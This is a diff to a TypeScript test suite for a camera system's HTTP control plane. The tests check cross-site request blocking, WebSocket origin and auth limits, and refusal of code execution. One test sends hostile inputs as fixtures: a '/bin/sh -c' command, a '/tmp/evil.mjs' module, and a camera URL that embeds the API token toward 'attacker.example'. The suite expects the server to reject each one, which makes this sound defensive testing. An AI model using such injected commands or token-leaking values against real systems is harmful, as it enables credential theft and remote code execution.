@@ -265,6 +265,53 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.match(preflight.headers.get('access-control-allow-headers')!, /authorization/);
   });
 
+  it('loopback reads without the token only for requests that are not cross-site: a foreign Origin or Sec-Fetch-Site cross-site/same-site is 403, the socket refuses foreign origins', async () => {
+    for (const path of ['/api/stats', '/api/config', `/api/cameras/${CAM}`, `/api/cameras/${CAM}/latest.jpg`, `/api/cameras/${CAM}/mjpeg`]) {
+      await expectError(403, 'ERR_HTTP_CROSS_SITE', 'GET', path, { token: null, headers: { 'sec-fetch-site': 'cross-site' } });
+      await expectError(403, 'ERR_HTTP_CROSS_SITE', 'GET', path, { token: null, headers: { 'sec-fetch-site': 'same-site' } });
+      await expectError(403, 'ERR_HTTP_CROSS_SITE', 'GET', path, { token: null, headers: { origin: 'http://evil.example' } });
+    }
+    // The dashboard's own requests, and non-browser clients, read as before; the token lets any caller read.
+    assert.equal((await call('GET', '/api/stats', { token: null, headers: { 'sec-fetch-site': 'same-origin', origin: base } })).status, 200);
+    assert.equal((await call('GET', '/api/stats', { token: null, headers: { 'sec-fetch-site': 'none' } })).status, 200);
+    assert.equal((await call('GET', '/api/stats', { token: null })).status, 200);
+    assert.equal((await call('GET', '/api/stats', { headers: { 'sec-fetch-site': 'cross-site', origin: 'https://allowed.example' } })).status, 200);
+    // The socket: a foreign Origin is refused before the upgrade; a page of another site without a token is not let in unauthenticated.
+    const upgrade = (headers: Record<string, string>) =>
+      new Promise<number | Record<string, unknown>>((resolve) => {
+        const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api/ws`, { headers });
+        ws.once('unexpected-response', (_req, res) => {
+          resolve(res.statusCode ?? 0);
+          res.resume();
+          ws.terminate();
+        });
+        ws.once('message', (data: Buffer) => {
+          resolve(JSON.parse(data.toString()) as Record<string, unknown>);
+          ws.close();
+        });
+        ws.on('error', () => undefined);
+      });
+    assert.equal(await upgrade({ origin: 'http://evil.example' }), 403);
+    assert.equal(await upgrade({ origin: 'http://127.0.0.1:1' }), 403);
+    assert.deepEqual(await upgrade({ origin: 'https://allowed.example', 'sec-fetch-site': 'cross-site' }), { type: 'hello', version: 2, auth: 'required' });
+    assert.deepEqual(await upgrade({ origin: base, 'sec-fetch-site': 'same-origin' }), { type: 'hello', version: 2, auth: 'none' });
+    assert.deepEqual(await upgrade({}), { type: 'hello', version: 2, auth: 'none' });
+  });
+
+  it('the API runs no programs and expands no variable it was not given: command and file module workers are 403 without allowExec, ${NAME} outside the policy is 403', async () => {
+    const entry = (workers: unknown[], source = vtest()) => ({ source, capture, workers });
+    await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/exec1', { body: entry([{ id: 'sh', command: ['/bin/sh', '-c', 'touch /tmp/framesupplier-pwned'] }]) });
+    await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'PUT', `/api/cameras/${OTHER}`, { body: entry([{ id: 'mod', module: '/tmp/evil.mjs' }]) });
+    const refused = await expectError(403, 'ERR_HTTP_ENV_REFERENCE', 'POST', '/api/cameras/env1', { body: entry([{ id: 'motion', module: 'builtin:motion' }], 'rtsp://${FRAMESUPPLIER_HTTP_TOKEN}@attacker.example/s') });
+    assert.match(refused.json!.error!.message, /cameras\.env1\.source/);
+    assert.ok(!refused.json!.error!.message.includes(TOKEN));
+    assert.equal(system.stats().cameras.exec1, undefined);
+    assert.equal(system.stats().cameras.env1, undefined);
+    // Built-in modules, and a literal $${ (escaped), are fine.
+    assert.equal((await call('POST', '/api/cameras/lit1', { body: entry([{ id: 'motion', module: 'builtin:motion' }], `${vtest()}`) })).status, 201);
+    await call('DELETE', '/api/cameras/lit1');
+  });
+
   it('the dashboard socket: hello, frames of the watched cameras paced by acks, stats, events', async () => {
     const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api/ws`);
     const messages: Record<string, unknown>[] = [];
@@ -358,7 +405,7 @@ describe('HTTP control plane beyond loopback', { timeout: 60_000 }, () => {
   before(async () => {
     system = new VisionSystem({ config: resolvedConfig({ shmDir: SHM, cameras: { [CAM]: camera } }), logger: createLogger({ level: 'silent' }), drainTimeoutMs: 1_000 });
     await system.start();
-    server = new HttpServer({ system, token: TOKEN, host: '0.0.0.0', port: 0, logger: createLogger({ level: 'silent' }) });
+    server = new HttpServer({ system, token: TOKEN, host: '0.0.0.0', port: 0, logger: createLogger({ level: 'silent' }), authTimeoutMs: 1_500, maxPendingSockets: 8 });
     await server.start();
   });
 
@@ -368,9 +415,12 @@ describe('HTTP control plane beyond loopback', { timeout: 60_000 }, () => {
     rmSync(SHM, { recursive: true, force: true });
   });
 
-  it('every call but the static files needs the token, reads too; the socket asks for it and closes 4401 on a wrong one', async () => {
+  it('every call but the static files and health needs the token, reads too; the socket asks for it and closes 4401 on a wrong one', async () => {
     const base = `http://127.0.0.1:${server.port}`;
-    for (const path of ['/api/stats', '/healthz', '/api/cameras', `/api/cameras/${CAM}/latest.jpg`]) {
+    // Health holds nothing, and a container's health check carries no token.
+    assert.deepEqual(await (await fetch(`${base}/healthz`)).json(), { ok: true });
+    assert.equal(((await (await fetch(`${base}/readyz`)).json()) as { ready: boolean }).ready, true);
+    for (const path of ['/api/stats', '/api/config', '/api/cameras', `/api/cameras/${CAM}/latest.jpg`, `/api/cameras/${CAM}/mjpeg`]) {
       const r = await fetch(`${base}${path}`);
       assert.equal(r.status, 401, path);
       assert.equal(((await r.json()) as { error: { code: string } }).error.code, 'ERR_HTTP_UNAUTHORIZED');
@@ -410,5 +460,37 @@ describe('HTTP control plane beyond loopback', { timeout: 60_000 }, () => {
     const right = await session(TOKEN);
     assert.ok(right.messages.some((m) => m.type === 'auth-ok'));
     assert.ok(right.messages.some((m) => m.type === 'stats'));
+    assert.deepEqual(right.messages.find((m) => m.type === 'ready')?.cameras, [CAM], 'the cameras, once authenticated');
+  });
+
+  it('before auth the socket says only its protocol version; sockets that never authenticate are closed after the auth timeout, and only so many may wait (the rest refused, counted)', async () => {
+    const url = `ws://127.0.0.1:${server.port}/api/ws`;
+    const refusedBefore = server.stats().refusedSockets;
+    const silent: { ws: WebSocket; first: Promise<Record<string, unknown>>; closed: Promise<number> }[] = [];
+    for (let i = 0; i < 8; i++) {
+      const ws = new WebSocket(url);
+      const first = new Promise<Record<string, unknown>>((resolve) => ws.once('message', (data: Buffer) => resolve(JSON.parse(data.toString()) as Record<string, unknown>)));
+      const closed = new Promise<number>((resolve) => ws.once('close', (code) => resolve(code)));
+      silent.push({ ws, first, closed });
+      await new Promise((resolve) => ws.once('open', resolve));
+    }
+    for (const s of silent) assert.deepEqual(await s.first, { type: 'hello', version: 2, auth: 'required' }, 'nothing but the protocol before auth');
+    assert.equal(server.stats().awaitingAuth, 8);
+    // The ninth is refused before the upgrade: 503 with a code, counted.
+    const refused = await new Promise<number>((resolve, reject) => {
+      const ws = new WebSocket(url);
+      ws.once('unexpected-response', (_req, res) => {
+        resolve(res.statusCode ?? 0);
+        res.resume();
+        ws.terminate();
+      });
+      ws.once('open', () => reject(new Error('a ninth socket waiting for auth was let in')));
+      ws.on('error', () => undefined);
+    });
+    assert.equal(refused, 503);
+    assert.equal(server.stats().refusedSockets, refusedBefore + 1);
+    // None authenticates: each is closed with 4408 once the timeout passes, and room is made again.
+    assert.deepEqual(await Promise.all(silent.map((s) => s.closed)), Array(8).fill(4408));
+    await until('no socket waiting', () => server.stats().awaitingAuth === 0);
   });
 });
